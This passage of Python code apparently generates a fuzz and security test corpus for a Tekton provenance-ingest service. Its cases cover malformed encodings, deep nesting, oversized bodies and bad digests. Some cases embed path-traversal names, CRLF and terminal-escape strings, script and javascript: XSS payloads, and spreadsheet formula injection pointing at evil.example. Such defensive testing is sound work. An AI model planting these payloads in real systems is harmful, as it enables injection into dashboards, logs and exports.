        ("label-key", lambda d: d["metadata"]["labels"].update({"te\u0000am": "a"}),
         "in a label key"),
        ("condition-reason", lambda d: d["status"]["conditions"][0].update(reason="Succ\u0000"),
         "in the Succeeded reason (stored in a column)"),
        ("task-ref-name", lambda d: d["spec"]["taskRef"].update(name="kaniko\u0000"),
         "in taskRef.name (stored as the run's definition)"),
    ]  # fmt: skip
    for slug, change, note in nul_rejects:
        c.add(cat, slug, mutated(tr, change), "reject", note, error=NUL)
    nul_stores = [
        ("annotation", lambda d: d["metadata"]["annotations"].update(note="a\u0000b"),
         "NUL in an annotation value"),
        ("param-value", lambda d: d["spec"]["params"].append({"name": "X", "value": "a\u0000b"}),
         "in a param value"),
        ("result-value", lambda d: d["status"]["results"].append(
            {"name": "notes", "value": "a\u0000b"}), "in a plain result value"),
        ("step-name", lambda d: d["status"]["steps"][0].update(name="build\u0000push"),
         "in a step name"),
        ("artifact-uri", lambda d: d["status"]["results"].extend([
            {"name": "ARTIFACT_URI", "value": "pkg:generic/app\u0000x"},
            {"name": "ARTIFACT_DIGEST", "value": "sha256:" + DIGEST_B}]),
         "in an ARTIFACT_URI (a subject name under slsa/v1 and v2alpha3)"),
    ]  # fmt: skip
    for slug, change, note in nul_stores:
        # Postgres text cannot hold NUL, and a string the engine passes on (a subject name,
        # a reason) may land in a text column at compute time: NUL is refused anywhere.
        fmt = "slsa/v1" if slug == "artifact-uri" else None
        c.add(cat, slug, mutated(tr, change), "reject", note, error=NUL, format=fmt)
    c.add(
        cat,
        "raw-nul-in-json-string",
        sub(tr_json, b'"kaniko-build-k4x7v"', b'"kaniko\x00build"', 1),
        "reject",
        "a raw 0x00 byte inside a JSON string (control characters must be escaped)",
        error=INVALID_JSON,
        ext="json",
    )
    c.add(
        cat,
        "raw-nul-between-tokens",
        sub(tr_json, b"{", b"{\x00", 1),
        "reject",
        "a raw 0x00 byte between JSON tokens",
        error=INVALID_JSON,
        ext="json",
    )
    c.add(
        cat,
        "raw-nul-in-yaml",
        sub(tr_yaml, "kaniko-build-k4x7v", "kaniko\x00build", 1),
        "reject",
        "a raw 0x00 character in YAML text",
        error=["invalid YAML", "special characters"],
        ext="yaml",
    )
    c.add(
        cat,
        "yaml-escaped-nul-name",
        sub(tr_yaml, "name: kaniko-build-k4x7v", 'name: "kaniko\\0build"', 1),
        "reject",
        'YAML "\\0" escape in metadata.name',
        error=NUL,
        ext="yaml",
    )

    # --- lone surrogates and invalid UTF-8 -------------------------------------------------
    cat = "surrogates-utf8"
    tr_text = json.dumps(tr)
    escapes = [
        ("high-alone", "\\ud800", "a lone high surrogate"),
        ("low-alone", "\\udfff", "a lone low surrogate"),
        ("reversed-pair", "\\udc00\\ud800", "low then high"),
        ("high-then-letter", "\\ud800\\u0041", "high surrogate followed by A"),
        ("high-high", "\\ud800\\udbff", "two high surrogates"),
        ("high-at-end", "x\\ud83d", "a pair cut after its first half"),
    ]
    for slug, escape, note in escapes:
        c.add(
            cat,
            f"json-{slug}",
            sub(tr_text, "kaniko-build-k4x7v", "kaniko" + escape, 1),
            "reject",
            f"JSON escape: {note} in metadata.name",
            error=INVALID_JSON,
            ext="json",
        )
    c.add(
        cat,
        "json-lone-surrogate-in-param",
        sub(tr_text, '2026-03-04"', '2026-03-04\\udead"', 1),
        "reject",
        "a lone surrogate escape in a param value",
        error=INVALID_JSON,
        ext="json",
    )
    c.add(
        cat,
        "json-valid-pair",
        sub(tr_text, "kaniko-build-k4x7v", "kaniko-\\ud83d\\ude80", 1),
        "store",
        "a valid surrogate pair (U+1F680) is one character",
        ext="json",
    )
    for slug, escape, note in (
        ("yaml-high-alone", "\\ud800", "a lone high surrogate"),
        ("yaml-low-alone", "\\udc00", "a lone low surrogate"),
        ("yaml-pair-as-escapes", "\\ud83d\\ude80", "a pair written as two \\u escapes"),
    ):
        c.add(
            cat,
            slug,
            sub(tr_yaml, "name: kaniko-build-k4x7v", f'name: "kaniko-{escape}"', 1),
            "reject",
            f'YAML "{escape}": {note}; JSON cannot hold lone surrogates',
            error=SURROGATE,
            ext="yaml",
        )
    c.add(
        cat,
        "yaml-surrogate-in-annotation",
        sub(tr_yaml, "status:\n", 'status:\n  extra: "\\udead"\n', 1),
        "reject",
        "a lone surrogate in a field the engine never reads",
        error=SURROGATE,
        ext="yaml",
    )
    raw_bytes = sub(tr_json, b"kaniko-build-k4x7v", b"kaniko-@@", 1)
    for slug, seq, note in (
        ("ff-byte", b"\xff", "0xFF never appears in UTF-8"),
        ("overlong-slash", b"\xc0\xaf", "an overlong encoding of /"),
        ("cesu-surrogate", b"\xed\xa0\x80", "a surrogate encoded as 3 bytes (CESU-8)"),
        ("truncated-sequence", b"\xe2\x82", "a 3-byte sequence missing its last byte"),
        ("latin1", "caf\u00e9".encode("latin-1"), "Latin-1 text, not UTF-8"),
        ("continuation-alone", b"\x80", "a continuation byte with no lead"),
    ):
        c.add(
            cat,
            f"json-{slug}",
            sub(raw_bytes, b"@@", seq),
            "reject",
            f"invalid UTF-8 in a JSON string: {note}",
            error=NOT_UTF8,
            ext="json",
        )
    c.add(
        cat,
        "yaml-invalid-utf8",
        sub(tr_yaml.encode(), b"kaniko-build-k4x7v", b"kaniko-\xff\xfe", 1),
        "reject",
        "invalid UTF-8 in YAML text",
        error=["not UTF-8"],
        ext="yaml",
    )
    c.add(
        cat,
        "utf16-json",
        tr_json.decode().encode("utf-16"),
        "reject",
        "UTF-16 with a byte order mark",
        error=["not UTF-8", "invalid YAML", "invalid JSON"],
        ext="json",
    )
    c.add(
        cat,
        "json-raw-utf8-name",
        sub(tr_json, b"kaniko-build-k4x7v", "kaniko-\u00e9\u4e2d\U0001f680".encode(), 1),
        "store",
        "raw (unescaped) multi-byte UTF-8 in a name",
        ext="json",
    )

    # --- deep nesting (generated) -----------------------------------------------------------
    cat = "deep-nesting"
    deep = [
        ("json-10k-arrays", {"generate": "deep", "syntax": "json", "shape": "array",
                              "levels": 10000}, DEEP + INVALID_JSON),
        ("json-10k-objects", {"generate": "deep", "syntax": "json", "shape": "object",
                               "levels": 10000}, DEEP + INVALID_JSON),
        ("json-10k-in-record", {"generate": "deep", "syntax": "json", "shape": "in-record",
                                 "levels": 10000}, DEEP + INVALID_JSON),
        ("yaml-10k-flow", {"generate": "deep", "syntax": "yaml", "shape": "flow",
                            "levels": 10000}, DEEP + INVALID_YAML),
        ("yaml-10k-block", {"generate": "deep", "syntax": "yaml", "shape": "block",
                             "levels": 10000}, DEEP + INVALID_YAML),
        ("yaml-10k-mapping", {"generate": "deep", "syntax": "yaml", "shape": "mapping",
                               "levels": 10000}, DEEP + INVALID_YAML),
        ("json-600-in-record", {"generate": "deep", "syntax": "json", "shape": "in-record",
                                 "levels": 600},
         DEEP),
        ("json-300-in-record", {"generate": "deep", "syntax": "json", "shape": "in-record",
                                 "levels": 300}, DEEP),
        ("json-300-in-spec", {"generate": "deep", "syntax": "json", "shape": "in-spec",
                               "levels": 300}, DEEP),
        ("json-600-lists-of-lists", {"generate": "nested-lists", "levels": 600},
         DEEP + INVALID_JSON),
    ]  # fmt: skip
    for slug, recipe, error in deep:
        c.gen(cat, slug, recipe, "reject", f"{recipe['levels']} levels of nesting", error=error)
    c.gen(
        cat,
        "json-100-in-record",
        {"generate": "deep", "syntax": "json", "shape": "in-record", "levels": 100},
        "store",
        "100 levels of nesting in a field the engine never reads: within limits",
    )
    c.gen(
        cat,
        "json-100-lists-of-lists",
        {"generate": "nested-lists", "levels": 100},
        "store",
        "a TaskRun wrapped in 100 nested `kind: List` objects",
    )

    # --- huge arrays (generated) ------------------------------------------------------------
    cat = "huge-arrays"
    for slug, recipe, expect, note, error in [
        ("200k-results", {"generate": "wide", "field": "results", "count": 200000}, "store",
         "a TaskRun with 200,000 results", None),
        ("200k-params", {"generate": "wide", "field": "params", "count": 200000}, "store",
         "a TaskRun with 200,000 params", None),
        ("100k-steps", {"generate": "wide", "field": "steps", "count": 100000}, "store",
         "a TaskRun with 100,000 steps", None),
        ("200k-labels", {"generate": "wide", "field": "labels", "count": 200000}, "store",
         "a TaskRun with 200,000 labels", None),
        ("200k-conditions", {"generate": "wide", "field": "conditions", "count": 200000},
         "store", "a TaskRun with 200,000 conditions", None),
        ("100k-pipeline-tasks", {"generate": "wide", "field": "pipelineTasks", "count": 100000},
         "store", "a PipelineRun whose spec has 100,000 tasks", None),
        ("200k-empty-lists", {"generate": "wide", "field": "emptyLists", "count": 200000},
         "reject", "a List of 200,000 empty Lists", NO_OBJECTS),
        ("50-taskruns", {"generate": "wide", "field": "taskruns", "count": 50}, "store",
         "a List of 50 standalone TaskRuns, each computed and signed", None),
        ("300k-annotations-json", {"generate": "wide", "field": "annotations",
                                    "count": 300000}, "store",
         "a TaskRun with 300,000 annotations as JSON (about 5 MB)", None),
        ("300k-annotations-yaml", {"generate": "wide", "field": "annotations",
                                    "count": 300000, "syntax": "yaml"}, "store",
         "the same as YAML (about 4.4 MB, under the size limit): must parse in seconds too",
         None),
    ]:  # fmt: skip
        c.gen(cat, slug, recipe, expect, note, error=error)
    # Over a limit on the work one record may cause (issue 11, docs/security.md "Bounded work").
    for slug, recipe, note, limit in [
        ("100k-child-references", {"generate": "wide", "field": "childReferences",
                                    "count": 100000},
         "a PipelineRun naming 100,000 TaskRuns", "PROVENANCE_MAX_TASKS"),
        ("200k-pods", {"generate": "wide", "field": "pods", "count": 200000},
         "a List of 200,000 Pods", "INGEST_MAX_OBJECTS"),
        ("200k-empty-objects", {"generate": "wide", "field": "emptyObjects", "count": 200000},
         "a JSON array of 200,000 {}", "INGEST_MAX_OBJECTS"),
    ]:  # fmt: skip
        c.gen(cat, slug, recipe, "reject", note, error=[limit], status=413)

    # --- oversized bodies (generated) -------------------------------------------------------
    cat = "oversized"
    for slug, recipe, note in [
        ("json-over-limit", {"generate": "oversize", "syntax": "json", "over": 1},
         "a valid TaskRun padded to INGEST_MAX_BYTES + 1 bytes"),
        ("yaml-over-limit", {"generate": "oversize", "syntax": "yaml", "over": 1},
         "the same as YAML"),
        ("garbage-over-limit", {"generate": "oversize", "syntax": "garbage", "over": 1},
         "INGEST_MAX_BYTES + 1 bytes of 'A'"),
        ("json-double-limit", {"generate": "oversize", "syntax": "json", "over": 10 * 2**20},
         "a valid TaskRun twice the limit"),
        ("list-over-limit", {"generate": "oversize", "syntax": "list", "over": 1},
         "a List of small TaskRuns past the limit"),
    ]:  # fmt: skip
        c.gen(cat, slug, recipe, "reject", note, error=["larger than"], status=413)
    c.gen(
        cat,
        "json-at-limit",
        {"generate": "oversize", "syntax": "json", "over": 0},
        "store",
        "a valid TaskRun of exactly INGEST_MAX_BYTES bytes (a big annotation) is accepted",
    )
    c.add(
        cat,
        "gzip-body",
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(range(256)),
        "reject",
        "a gzip-looking body sent without decoding: not text",
        error=["not UTF-8"],
        ext="json",
    )

    # --- digests ---------------------------------------------------------------------------
    cat = "digests"

    def image_digest(value: str) -> Callable[[dict[str, Any]], None]:
        def change(d: dict[str, Any]) -> None:
            d["status"]["results"][0]["value"] = value

        return change

    image_digests = [
        ("upper-everything", "SHA256:" + DIGEST.upper(), "SHA256:ABC… (upper-case)"),
        ("upper-algorithm", "SHA256:" + DIGEST, "SHA256: with lower-case hex"),
        ("upper-hex", "sha256:" + DIGEST.upper(), "upper-case hex"),
        ("mixed-hex", "sha256:" + DIGEST[:32].upper() + DIGEST[32:], "mixed-case hex"),
        ("hex-63", "sha256:" + DIGEST[:63], "63 hex digits"),
        ("hex-65", "sha256:" + DIGEST + "0", "65 hex digits"),
        ("md5", "md5:d41d8cd98f00b204e9800998ecf8427e", "an md5 digest"),
        ("sha512-for-image", "sha512:" + DIGEST * 2, "sha512 is not an image digest"),
        ("empty", "", "empty"),
        ("whitespace", "   \t\n", "only whitespace"),
        ("padded", "  sha256:" + DIGEST + "\n", "a valid digest with surrounding whitespace"),
        ("no-algorithm", DIGEST, "hex without `sha256:`"),
        ("double-prefix", "sha256:sha256:" + DIGEST, "sha256:sha256:…"),
        ("non-hex", "sha256:" + "g" * 64, "64 non-hex letters"),
        ("arabic-digits", "sha256:" + "\u0660" * 64, "Arabic-Indic digits (\\d would match)"),
        ("fullwidth-hex", "sha256:" + "\uff41" * 64, "full-width a"),
        ("zero-width-suffix", "sha256:" + DIGEST + "\u200b", "a zero-width space after it"),
        ("two-digests", f"sha256:{DIGEST}\nsha256:{DIGEST_B}", "two digests in one value"),
        ("only-colon", ":", "a colon alone"),
    ]
    for slug, value, note in image_digests:
        c.add(cat, f"image-{slug}", mutated(tr, image_digest(value)), "store",
              f"IMAGE_DIGEST {note}: stored, never a subject unless valid")  # fmt: skip

    def artifact_digest(value: str) -> Callable[[dict[str, Any]], None]:
        def change(d: dict[str, Any]) -> None:
            d["status"]["results"] += [
                {"name": "ARTIFACT_URI", "value": "pkg:generic/app@1.0"},
                {"name": "ARTIFACT_DIGEST", "value": value},
            ]

        return change

    for slug, value, note in [
        ("upper-algorithm", "SHA256:" + DIGEST_B, "SHA256: with lower-case hex"),
        ("spaced", "sha256 : " + DIGEST_B, "spaces around the colon"),
        ("padded-algorithm", "sha256" + " " * 20 + ":" + DIGEST_B, "20 spaces after sha256"),
        ("sha1", "sha1:" + COMMIT, "a sha1 digest"),
        ("sha512", "sha512:" + DIGEST_B * 2, "a sha512 digest"),
        ("md5", "md5:d41d8cd98f00b204e9800998ecf8427e", "md5"),
        ("upper-hex", "sha256:" + DIGEST_B.upper(), "upper-case hex"),
    ]:
        c.add(cat, f"artifact-{slug}", mutated(tr, artifact_digest(value)), "store",
              f"ARTIFACT_URI/ARTIFACT_DIGEST pair, digest {note} (slsa/v1 makes it a subject)",
              format="slsa/v1")  # fmt: skip
    c.add(
        cat,
        "artifact-outputs-upper",
        mutated(
            tr,
            lambda d: d["status"]["results"].append(
                {
                    "name": "ARTIFACT_OUTPUTS",
                    "type": "object",
                    "value": {
                        "uri": "pkg:generic/app@1.0",
                        "digest": "SHA256:" + DIGEST_B,
                        "isBuildArtifact": "true",
                    },
                }
            ),
        ),
        "store",
        "ARTIFACT_OUTPUTS object with digest SHA256:…",
    )
    c.add(
        cat,
        "images-bogus",
        mutated(
            tr,
            lambda d: d["status"]["results"].append(
                {"name": "IMAGES", "value": f"a@sha256:{DIGEST[:10]}, b@SHA256:{DIGEST}, ,,\n"}
            ),
        ),
        "store",
        "IMAGES with invalid entries",
    )
    c.add(
        cat,
        "step-image-id-bogus",
        mutated(tr, lambda d: d["status"]["steps"][0].update(imageID="gcr.io/x@sha256:zz")),
        "store",
        "a step imageID with a bogus digest",
    )
    c.add(
        cat,
        "ref-source-digest-bogus",
        mutated(
            tr,
            lambda d: d["status"].update(
                provenance={
                    "refSource": {
                        "uri": "git+https://github.com/acme/tasks.git",
                        "digest": {"SHA1": "XYZ", "": "", "sha256": 5},
                        "entryPoint": "task.yaml",
                    }
                }
            ),
        ),
        "store",
        "a refSource digest map with bogus algorithms and values",
    )

    # --- names: path traversal and unicode tricks -------------------------------------------
    cat = "names"

    def name(value: str) -> Callable[[dict[str, Any]], None]:
        return lambda d: d["metadata"].update(name=value)

    for slug, value, note in [
        ("dotdot-passwd", "../../etc/passwd", "path traversal"),
        ("dotdot-windows", "..\\..\\windows\\win.ini", "Windows path traversal"),
        ("absolute-path", "/etc/shadow", "an absolute path"),
        ("slash", "team/run", "a slash"),
        ("dot", ".", "a lone dot"),
        ("dotdot", "..", "two dots"),
        ("url-encoded", "%2e%2e%2fetc%2fpasswd", "URL-encoded traversal"),
        ("rtl-override", "run-\u202egnp.exe", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("zero-width-joiner", "kan\u200diko", "U+200D ZERO WIDTH JOINER"),
        ("zero-width-space", "kaniko\u200b", "U+200B ZERO WIDTH SPACE"),
        ("bom-inside", "\ufeffkaniko", "U+FEFF at the start"),
        ("cyrillic-homoglyph", "k\u0430niko-build-k4x7v", "Cyrillic а instead of a"),
        ("greek-homoglyph", "kaniko-\u03bfk", "Greek ο instead of o"),
        ("fullwidth", "\uff4b\uff41\uff4e\uff49\uff4b\uff4f", "full-width letters"),
        ("combining-zalgo", "k" + "\u0301\u0302\u0303\u0304" * 20, "80 combining marks"),
        ("nfd", "cafe\u0301", "decomposed é (NFD): differs from NFC café"),
        ("emoji", "build-\U0001f680-\U0001f468\u200d\U0001f469\u200d\U0001f467", "emoji, ZWJ"),
        ("ansi-escape", "run\u001b[2J\u001b[31mPWNED\u001b[0m", "terminal escape sequences"),
        ("crlf-header", "run\r\nX-Injected: 1", "CR LF (header/log injection)"),
        ("tab", "run\tname", "a tab"),
        ("line-separator", "run\u2028name", "U+2028 LINE SEPARATOR (breaks JS strings)"),
        ("exactly-253", "n" * 253, "253 characters: the Kubernetes limit, accepted"),
        ("spaces-only", "   ", "only spaces"),
    ]:
        c.add(cat, f"name-{slug}", mutated(tr, name(value)), "store",
              f"metadata.name: {note}; stored verbatim",
              payloads=[value], echo=[value])  # fmt: skip
    for slug, value, note in [
        ("254", "n" * 254, "254 characters"),
        ("10k", "x" * 10000, "10,000 characters"),
    ]:
        c.add(cat, f"name-{slug}", mutated(tr, name(value)), "reject",
              f"metadata.name of {note}: longer than a Kubernetes name can be",
              error=TOO_LONG + ["metadata.name"])  # fmt: skip
    for slug, value, note in [
        ("dotdot", "../../etc/passwd", "path traversal"),
        ("uppercase", "Team-A", "upper case"),
        ("slash", "team-a/x", "a slash"),
        ("10k", "n" * 10000, "10,000 characters"),
        ("rtl", "team-\u202ea", "a right-to-left override"),
        ("space", "team a", "a space"),
    ]:
        c.add(cat, f"namespace-{slug}", mutated(tr, lambda d, v=value: d["metadata"].update(
            namespace=v)), "reject",
              f"metadata.namespace with {note}: not a Kubernetes namespace name",
              error=NAMESPACE)  # fmt: skip
    for slug, change, note, error in [
        ("uid-129", lambda d: d["metadata"].update(uid="u" * 129), "a 129-character uid",
         TOO_LONG),
        ("resource-version-65", lambda d: d["metadata"].update(resourceVersion="9" * 65),
         "a 65-digit resourceVersion", TOO_LONG),
    ]:  # fmt: skip
        c.add(cat, slug, mutated(tr, change), "reject", note, error=error)
    for slug, change, note in [
        ("uid-traversal", lambda d: d["metadata"].update(uid="../../etc/passwd"),
         "a uid that looks like a path"),
        ("task-ref-10k", lambda d: d["spec"]["taskRef"].update(name="t" * 10000),
         "a 10,000-character taskRef name (the definition column keeps 253)"),
        ("pipeline-task-label-10k", lambda d: d["metadata"]["labels"].update(
            {"tekton.dev/pipelineTask": "p" * 10000}),
         "a 10,000-character pipelineTask label on a TaskRun with no PipelineRun"),
        ("label-key-traversal", lambda d: d["metadata"]["labels"].update(
            {"../../etc/passwd": "x", "a/b/c/d": "\u202e"}), "label keys with slashes"),
        ("step-name-traversal", lambda d: d["status"]["steps"][0].update(
            name="../../../bin/sh"), "a step name that looks like a path"),
    ]:  # fmt: skip
        c.add(cat, slug, mutated(tr, change), "store", note)
    c.add(
        cat,
        "pipeline-names-unicode",
        _pipeline_with_task_name("base-unicode", "b\u0443ild\u202e"),
        "store",
        "a pipeline task named with a homoglyph and an RTL override",
        payloads=["b\u0443ild\u202e"],
    )

    # --- HTML / JS in every string shown in the dashboard ------------------------------------
    cat = "html-js"
    for index, payload in enumerate(XSS):
        n = index + 1
        fields: list[tuple[str, Callable[[dict[str, Any]], None], bool]] = [
            ("name", lambda d, p=payload: d["metadata"].update(name=p), True),
            ("label-value", lambda d, p=payload: d["metadata"]["labels"].update(app=p), False),
            ("label-key", lambda d, p=payload: d["metadata"]["labels"].update({p: "x"}), False),
            ("annotation", lambda d, p=payload: d["metadata"]["annotations"].update(
                {"description": p}), False),
            ("param-value", lambda d, p=payload: d["spec"]["params"].append(
                {"name": "NOTE", "value": p}), True),
            ("param-name", lambda d, p=payload: d["spec"]["params"].append(
                {"name": p, "value": "x"}), True),
            ("result-value", lambda d, p=payload: d["status"]["results"].append(
                {"name": "summary", "value": p}), False),
            ("result-name", lambda d, p=payload: d["status"]["results"].append(
                {"name": p, "value": "x"}), False),
            ("step-name", lambda d, p=payload: d["status"]["steps"][0].update(name=p), False),
            ("image-url", lambda d, p=payload: d["status"]["results"][1].update(value=p), False),
            ("step-image-id", lambda d, p=payload: d["status"]["steps"][0].update(
                imageID=p + "@sha256:" + DIGEST_B), False),
            ("condition-message", lambda d, p=payload: d["status"]["conditions"][0].update(
                message=p), False),
            ("condition-reason", lambda d, p=payload: d["status"]["conditions"][0].update(
                reason=p), False),
            ("task-ref-name", lambda d, p=payload: d["spec"]["taskRef"].update(name=p), True),
            ("service-account", lambda d, p=payload: d["spec"].update(serviceAccountName=p),
             True),
            ("git-url", lambda d, p=payload: d["spec"]["params"][1].update(value=p), True),
        ]  # fmt: skip
        for field, change, echo in fields:
            c.add(
                cat,
                f"p{n}-{field}",
                mutated(tr, change),
                "store",
                f"{payload!r} in {field}",
                payloads=[payload],
                echo=[payload] if echo else None,
            )
        c.add(
            cat,
            f"p{n}-pipeline-task-name",
            _pipeline_with_task_name(f"xss-{n}", payload),
            "store",
            f"{payload!r} as a pipeline task name (spec, childReferences and labels)",
            payloads=[payload],
        )
        c.add(
            cat,
            f"p{n}-namespace",
            mutated(tr, lambda d, p=payload: d["metadata"].update(namespace=p)),
            "reject",
            f"{payload!r} as the namespace: not a Kubernetes namespace name",
            error=NAMESPACE,
        )
    for index, payload in enumerate(XSS_EXTRA):
        c.add(
            cat,
            f"extra{index + 1}-name-and-params",
            mutated(
                tr,
                lambda d, p=payload: (
                    d["metadata"].update(name=p),
                    d["spec"]["params"].append({"name": "NOTE", "value": p}),
                    d["status"]["results"].append({"name": "summary", "value": p}),
                ),
            ),
            "store",
            f"{payload!r} in the name, a param and a result",
            payloads=[payload],
            echo=[payload],
        )
    c.add(
        cat,
        "ref-source-javascript-uri",
        mutated(
            tr,
            lambda d: d["status"].update(
                provenance={
                    "refSource": {
                        "uri": "javascript:alert(1)//",
                        "digest": {"sha1": COMMIT},
                        "entryPoint": "<script>alert(1)</script>",
                    }
                }
            ),
        ),
        "store",
        "a javascript: refSource uri (becomes a resolved dependency)",
        payloads=["javascript:alert(1)//", "<script>alert(1)</script>"],
    )

    # --- CSV / formula injection ------------------------------------------------------------
    cat = "csv-formula"
    for index, formula in enumerate(FORMULAS):
        c.add(
            cat,
            f"f{index + 1}-name-and-result",
            mutated(
                tr,
                lambda d, f=formula: (
                    d["metadata"].update(name=f),
                    d["status"]["results"].append({"name": "summary", "value": f}),
                    d["spec"]["params"].append({"name": "NOTE", "value": f}),
                ),
            ),
            "store",
            f"{formula!r} in the name, a result and a param: stored verbatim",
            payloads=[formula],
            echo=[formula],
        )
    c.add(
        cat,
        "formula-labels-and-url",
        mutated(
            tr,
            lambda d: (
                d["metadata"]["labels"].update({"=cmd": FORMULAS[1], "owner": FORMULAS[0]}),
                d["status"]["results"][1].update(value="=IMAGE()"),
            ),
        ),
        "store",
        "formulas in a label key, label values and the image URL",
        payloads=[FORMULAS[0], FORMULAS[1], "=IMAGE()"],
    )
    c.add(
        cat,
        "formula-pipeline-task",
        _pipeline_with_task_name("csv", '=HYPERLINK("https://evil.example")'),
        "store",
        "a formula as a pipeline task name",
        payloads=['=HYPERLINK("https://evil.example")'],
    )

    # --- wrong JSON types --------------------------------------------------------------------
    cat = "wrong-types"

    def put(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
        def change(d: dict[str, Any]) -> None:
            *parents, last = path.split(".")
            node: Any = d
            for part in parents:
                node = node[int(part)] if isinstance(node, list) else node[part]
            if isinstance(node, list):
                node[int(last)] = value
            else:
                node[last] = value

        return change

    type_rejects: list[tuple[str, str, Any, list[str]]] = [
        ("metadata-string", "metadata", "kaniko", ["metadata must be an object"]),
        ("metadata-list", "metadata", [{"name": "x"}], ["metadata must be an object"]),
        ("metadata-null", "metadata", None, ["metadata.name is missing"]),
        ("spec-string", "spec", "run it", ["spec must be an object"]),
        ("spec-list", "spec", [], ["spec must be an object"]),
        ("status-string", "status", "Succeeded", ["has no status"]),
        ("status-list", "status", [{"type": "Succeeded"}], ["has no status"]),
        ("status-null", "status", None, ["has no status"]),
        ("results-dict", "status.results", {"IMAGE_URL": "x"}, ["results must be a list"]),
        ("results-string", "status.results", "IMAGE_URL=x", ["results must be a list"]),
        ("results-of-strings", "status.results", ["IMAGE_URL"], ["results must be a list"]),
        ("result-value-int", "status.results.0.value", 42, ["a value must be a string"]),
        ("result-value-nested", "status.results.0.value", {"a": {"b": "c"}},
         ["a value must be a string"]),
        ("result-value-list-of-ints", "status.results.0.value", [1, 2],
         ["a value must be a string"]),
        ("result-name-int", "status.results.0.name", 7, ["has no name"]),
        ("result-name-null", "status.results.0.name", None, ["has no name"]),
        ("steps-string", "status.steps", "build", ["status.steps must be a list"]),
        ("steps-dict", "status.steps", {"name": "build"}, ["status.steps must be a list"]),
        ("steps-of-strings", "status.steps", ["build"], ["status.steps must be a list"]),
        ("conditions-dict", "status.conditions", {"type": "Succeeded"},
         ["status.conditions must be a list"]),
        ("conditions-string", "status.conditions", "True", ["status.conditions must be a list"]),
        ("labels-list", "metadata.labels", ["a=b"], ["metadata.labels must be an object"]),
        ("labels-string", "metadata.labels", "a=b", ["metadata.labels must be an object"]),
        ("annotations-list", "metadata.annotations", ["x"],
         ["metadata.annotations must be an object"]),
        ("params-dict", "spec.params", {"IMAGE": "x"}, ["spec.params must be a list"]),
        ("params-of-strings", "spec.params", ["IMAGE"], ["spec.params must be a list"]),
        ("start-time-int", "status.startTime", 1709541000, ["RFC 3339"]),
        ("start-time-words", "status.startTime", "yesterday", ["RFC 3339"]),
        ("completion-time-bad-date", "status.completionTime", "2026-02-30T00:00:00Z",
         ["RFC 3339"]),
        ("completion-time-list", "status.completionTime", ["2026-03-04T08:31:12Z"],
         ["RFC 3339"]),
        ("kind-int", "kind", 1, ["`kind` must be a string"]),
        ("kind-list", "kind", ["TaskRun"], ["`kind` must be a string"]),
        ("api-version-int", "apiVersion", 1, ["unsupported apiVersion"]),
        ("name-list", "metadata.name", ["kaniko"], ["metadata.name must be a string", "name"]),
        ("name-dict", "metadata.name", {"first": "a"}, ["metadata.name must be a string",
                                                        "name"]),
        ("namespace-list", "metadata.namespace", ["team-a"], NAMESPACE),
        ("uid-dict", "metadata.uid", {"id": 1}, ["metadata.uid must be a string", "uid"]),
        ("uid-bool", "metadata.uid", True, ["metadata.uid must be a string", "uid"]),
        ("resource-version-dict", "metadata.resourceVersion", {"v": 1},
         ["resourceVersion must be a string", "resourceVersion"]),
    ]  # fmt: skip
    for slug, path, value, error in type_rejects:
        c.add(cat, slug, mutated(tr, put(path, value)), "reject",
              f"{path} = {json.dumps(value)}", error=error)  # fmt: skip
    type_stores: list[tuple[str, str, Any, str]] = [
        ("conditions-null", "status.conditions", None, "no conditions: the run is not done"),
        ("conditions-empty", "status.conditions", [], "empty conditions: the run is not done"),
        ("steps-null", "status.steps", None, "steps null"),
        ("results-null", "status.results", None, "results null: nothing to attest"),
        ("condition-status-int", "status.conditions.0.status", 1, "status 1 is not True"),
        ("condition-status-bool", "status.conditions.0.status", True, "status true (JSON bool)"),
        ("label-value-int", "metadata.labels.tekton.dev/task", 5, "a label value that is 5"),
        ("owner-refs-string", "metadata.ownerReferences", "PipelineRun/x",
         "ownerReferences a string"),
        ("task-spec-string", "status.taskSpec", "inline", "taskSpec a string"),
        ("provenance-list", "status.provenance", [], "provenance a list"),
        ("pod-name-object", "status.podName", {"a": [1, 2, None]}, "an unread field of any type"),
        ("step-image-id-int", "status.steps.0.imageID", 12345, "a step imageID that is a number"),
        ("float-resource-version", "metadata.resourceVersion", "1e3", "resourceVersion 1e3"),
    ]  # fmt: skip

    def label_to_int(d: dict[str, Any]) -> None:
        d["metadata"]["labels"]["tekton.dev/task"] = 5

    for slug, path, value, note in type_stores:
        # The label key has dots, which put() cannot address.
        change = label_to_int if slug == "label-value-int" else put(path, value)
        c.add(cat, slug, mutated(tr, change), "store", f"{path} = {json.dumps(value)}: {note}")
    pl = pipeline("types")
    c.add(
        cat,
        "pipeline-spec-tasks-dict",
        mutated(pl, lambda d: d["items"][0]["status"]["pipelineSpec"].update(tasks={"a": 1})),
        "reject",
        "status.pipelineSpec.tasks an object",
        error=["status.pipelineSpec.tasks must be a list"],
    )
    c.add(
        cat,
        "task-run-template-string",
        mutated(pl, lambda d: d["items"][0]["spec"].update(taskRunTemplate="x")),
        "reject",
        "spec.taskRunTemplate a string",
        error=["taskRunTemplate must be an object"],
    )
    c.add(
        cat,
        "child-references-dict",
        mutated(pl, lambda d: d["items"][0]["status"].update(childReferences={"a": "b"})),
        "store",
        "childReferences an object: no children named, those given still join by owner",
    )
    c.add(
        cat,
        "pipeline-spec-string",
        mutated(pl, lambda d: d["items"][0]["status"].update(pipelineSpec="inline")),
        "store",
        "pipelineSpec a string: no tasks known",
    )
    c.add(
        cat,
        "list-items-dict",
        mutated(pl, lambda d: d.update(items={"a": d["items"][0]})),
        "reject",
        "a List whose items is an object",
        error=["a List must have an `items` array"],
    )

    # --- kinds and apiVersions ------------------------------------------------------------
    cat = "kinds"
    for slug, change, error, note in [
        ("pod", lambda d: d.update(kind="Pod", apiVersion="v1"), NOT_TEKTON, "a Pod"),
        ("task", lambda d: d.update(kind="Task"), NOT_TEKTON, "a Task definition"),
        ("pipeline", lambda d: d.update(kind="Pipeline"), NOT_TEKTON, "a Pipeline definition"),
        ("custom-run", lambda d: d.update(kind="CustomRun"), NOT_TEKTON, "a CustomRun"),
        ("empty-kind", lambda d: d.update(kind=""), NOT_TEKTON, "kind ''"),
        ("no-kind", lambda d: d.pop("kind"), NOT_TEKTON, "no kind at all"),
